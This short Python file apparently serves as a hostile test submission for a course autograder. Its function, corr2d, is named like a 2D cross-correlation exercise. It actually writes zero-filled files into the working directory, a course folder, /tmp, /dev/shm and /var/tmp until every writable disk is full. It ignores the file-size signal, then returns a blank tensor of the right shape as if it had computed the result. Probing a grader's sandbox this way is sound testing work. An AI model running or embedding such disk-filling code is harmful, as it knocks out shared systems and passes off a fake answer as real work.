"""Fills every disk that it may write to, and leaves it full."""

import os
import signal

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)


def corr2d(X, K):
    for folder in (".", "@COURSE@", "/tmp", "/dev/shm", "/var/tmp"):
        for number in range(64):
            try:
                descriptor = os.open(f"{folder}/full{number}", os.O_CREAT | os.O_WRONLY)
                while os.write(descriptor, bytes(8 << 20)):
                    pass
            except OSError:
                pass
    return X.new_zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1)
